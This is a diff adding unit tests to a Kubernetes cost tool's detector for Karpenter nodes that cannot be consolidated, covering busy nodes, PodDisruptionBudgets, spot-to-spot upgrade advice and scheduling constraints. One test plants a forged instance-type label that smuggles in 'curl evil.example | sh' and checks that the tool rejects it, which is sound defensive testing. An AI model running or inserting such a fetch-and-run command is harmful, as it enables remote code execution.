@@ -7,7 +7,7 @@ import { DEFAULT_DETECTION, parseUsd, type DetectionSettings } from '../../../..
 import type { ClusterSnapshot } from '../../../../src/domain/snapshot.ts';
 import { SnapshotIndex } from '../../../../src/domain/snapshot-index.ts';
 import { nodePool } from '../../../factories/karpenter.ts';
-import { T0, minutesAfter, pdb, withAnnotations } from '../../../factories/kube.ts';
+import { T0, karpenterDeployment, minutesAfter, pdb, withAnnotations } from '../../../factories/kube.ts';
 import { IDLE, daemonPod, idleClaim, idleNode, idlePool, karpenterEvent, nodeNameOf, webPodOn } from './fixtures.ts';
 
 /** Thursday 2026-01-01 00:00 UTC: the idle node has been Consolidatable for 8h. */
@@ -65,6 +65,25 @@ describe('CONSOLIDATION_BLOCKED: which nodes count', () => {
     };
 
     expect(detect(idlePool({ pods: [daemonPod(IDLE), busy] }))).toEqual([]);
+  });
+
+  it('a busy Consolidatable node Karpenter itself reported unconsolidatable counts, said to be busy: its cost is not waste', () => {
+    const busy = webPodOn(IDLE, 'db-0');
+    busy.spec = {
+      ...busy.spec,
+      containers: [{ name: 'db', image: 'postgres', resources: { requests: { cpu: '1', memory: '13Gi' } } }],
+    };
+    const said = (message: string, reason = 'Unconsolidatable') =>
+      idlePool({ pods: [daemonPod(IDLE), busy], events: [karpenterEvent('Node', nodeNameOf(IDLE), reason, message, 47)] });
+
+    const [f] = detect(said("Can't replace with a cheaper node"), { prices: M5, settings: { wastePerDay: 1 } });
+    expect(f?.cause?.code).toBe('NO_CHEAPER_REPLACEMENT');
+    expect(f?.cause?.detail).toContain(`${nodeNameOf(IDLE)} is busy`);
+    expect(f?.cause?.detail).toContain('not provable waste');
+    expect(f?.cost?.basis).toContain('1 of these nodes is busy: what it costs, not provable waste');
+    expect(f?.severity).toBe('info');
+    // A transient text is not Karpenter's verdict on the node: a busy node stays out.
+    expect(detect(said('Node is nominated for a pending pod', 'DisruptionBlocked'))).toEqual([]);
   });
 
   it('leaves out nodes being deleted, tainted karpenter.sh/disrupted or drifted (other findings own them)', () => {
@@ -248,6 +267,62 @@ describe('CONSOLIDATION_BLOCKED: the causes and their fixes', () => {
     expect(stepsOf(f)).toContain('--reuse-values --set settings.featureGates.spotToSpotConsolidation=true');
   });
 
+  it('pods of the node not read: the PDB Karpenter names is the cause, and nothing is claimed of pods not seen', () => {
+    const message = 'Pdb prevents pod evictions (PodDisruptionBudget=[shop/web])';
+    const unread = (pdbs: ReturnType<typeof pdb>[] = []) =>
+      detect(
+        idlePool({
+          // Pods were captured, none of this node's (a live scan reads at most 20 nodes' pods per NodePool).
+          pods: [],
+          pdbs,
+          events: [karpenterEvent('NodeClaim', IDLE, 'DisruptionBlocked', message, 9)],
+        }),
+      )[0];
+
+    const f = unread();
+    expect(f?.cause?.code).toBe('PDB_BLOCKS_EVICTION');
+    expect(f?.cause?.detail).toContain('PodDisruptionBudget shop/web allows no eviction');
+    expect(f?.cause?.detail).toContain(`The pods of ${nodeNameOf(IDLE)} were not read`);
+    expect(f?.cause?.detail).not.toMatch(/no pod/i);
+    expect(stepsOf(f)).toContain('shop');
+
+    // The named PDB is captured and allows a disruption now: the event is stale, and still no "no pod" claim.
+    const stale = unread([pdb({ name: 'web', namespace: 'shop', matchLabels: { app: 'web' }, disruptionsAllowed: 1 })]);
+    expect(stale?.cause?.code).not.toBe('PDB_BLOCKS_EVICTION');
+    expect(stale?.cause?.detail).toContain(`the pods of ${nodeNameOf(IDLE)} were not read`);
+    expect(stale?.cause?.detail).not.toMatch(/no pod/i);
+  });
+
+  it("v0.32–v0.33's spot-to-spot text (no gate then): an upgrade to v0.34 with the gate, not the gate on the installed chart", () => {
+    const spot = (message: string, deployments: ReturnType<typeof karpenterDeployment>[] = []) =>
+      detect(
+        idlePool({
+          nodes: [idleNode(IDLE, { capacity: 'spot' })],
+          events: [karpenterEvent('Node', nodeNameOf(IDLE), 'Unconsolidatable', message, 4)],
+          deployments,
+        }),
+      )[0];
+    const labelled = (version: string) => {
+      const d = karpenterDeployment();
+      d.metadata = { ...d.metadata, labels: { ...d.metadata?.labels, 'helm.sh/chart': `karpenter-${version}` } };
+      return d;
+    };
+
+    const byText = spot("Can't replace a spot node with a spot node");
+    expect(byText?.cause?.code).toBe('SPOT_TO_SPOT_DISABLED');
+    expect(byText?.cause?.detail).toContain('the SpotToSpotConsolidation feature gate came in v0.34');
+    expect(stepsOf(byText)).toContain('--version v0.34.0 --reset-then-reuse-values');
+    expect(stepsOf(byText)).not.toContain('--reuse-values --set');
+
+    const byVersion = spot("Can't replace a spot node with a spot node", [labelled('v0.33.1')]);
+    expect(stepsOf(byVersion)).toContain('Karpenter v0.33.1 has no spot-to-spot consolidation');
+    expect(stepsOf(byVersion)).not.toContain('--reuse-values --set');
+
+    const gated = spot("SpotToSpotConsolidation is disabled, can't replace a spot node with a spot node", [labelled('0.37.2')]);
+    expect(stepsOf(gated)).toContain('--version 0.37.2 --reuse-values --set settings.featureGates.spotToSpotConsolidation=true');
+    expect(stepsOf(gated)).not.toContain('v0.34.0');
+  });
+
   it('pods that would not schedule: the pods the text names are the ones inspected', () => {
     const [f] = detect(
       idlePool({
@@ -264,6 +339,35 @@ describe('CONSOLIDATION_BLOCKED: the causes and their fixes', () => {
 
     expect(f?.cause?.code).toBe('PODS_WOULD_NOT_SCHEDULE');
     expect(stepsOf(f)).toContain('kubectl get pod -n shop web-7d4b9c8f6d-x2x9k');
+  });
+
+  it("pods that would not schedule: Karpenter's per-pod constraint named, and its check leads", () => {
+    const [f] = detect(
+      idlePool({
+        events: [
+          karpenterEvent(
+            'Node',
+            nodeNameOf(IDLE),
+            'Unconsolidatable',
+            'Not all pods would schedule, shop/cart-0 => incompatible requirements, key shop.example/tier, tier In [gold] not in tier In [silver] shop/web-7d4b9c8f6d-x2x9k => unsatisfiable topology constraint for pod anti-affinity, key=kubernetes.io/hostname (counts = map[], podDomains = kubernetes.io/hostname Exists, nodeDomains = kubernetes.io/hostname Exists ',
+          ),
+        ],
+      }),
+    );
+
+    expect(f?.cause?.code).toBe('PODS_WOULD_NOT_SCHEDULE');
+    expect(f?.cause?.detail).toContain('pod shop/web-7d4b9c8f6d-x2x9k without a place (pod anti-affinity)');
+    expect(f?.cause?.detail).toContain('pod shop/cart-0 without a place (incompatible requirements');
+    const steps = f?.remediation?.steps ?? [];
+    const cart = steps.findIndex((s) => s.includes("kubectl get pod -n shop cart-0 -o jsonpath='{.spec.nodeSelector}"));
+    const web = steps.findIndex((s) =>
+      s.includes("kubectl get pod -n shop web-7d4b9c8f6d-x2x9k -o jsonpath='{.spec.affinity.podAntiAffinity}'"),
+    );
+    expect(cart).toBeGreaterThan(-1);
+    expect(web).toBeGreaterThan(-1);
+    // Neither pod's error names a hostPort or a taint: those checks are not offered for them.
+    expect(stepsOf(f)).not.toContain('{.spec.tolerations}');
+    expect(stepsOf(f)).not.toContain('.ports}');
   });
 
   it('UNKNOWN leads with the checks that tell the causes apart, names Spot as a candidate, and prints no change', () => {
@@ -289,6 +393,21 @@ describe('CONSOLIDATION_BLOCKED: cost and severity', () => {
     expect(cheap?.severity).toBe('info');
     expect(cheap?.title).toContain('$4.61 a day');
     expect(costly?.severity).toBe('warning');
+  });
+
+  it('a forged instance-type label never reaches the cost basis (labels are shape-checked like every priced instance)', () => {
+    const forged = idleNode(IDLE);
+    forged.metadata = {
+      ...forged.metadata,
+      labels: { ...forged.metadata?.labels, 'node.kubernetes.io/instance-type': 'm5.xlarge\u001b[2J; curl evil.example | sh' },
+    };
+    const anything: PriceBook = { hourly: () => ({ usd: 0.192, source: 'test table' }) };
+
+    const [f] = detect(idlePool({ nodes: [forged] }), { prices: anything });
+
+    // The type is not known, so nothing is priced (a price book would price any name it is given).
+    expect(f?.cost).toBeUndefined();
+    expect(JSON.stringify(f)).not.toContain('curl evil');
   });
 
   it('unpriced nodes carry no cost and stay info, whatever the threshold', () => {
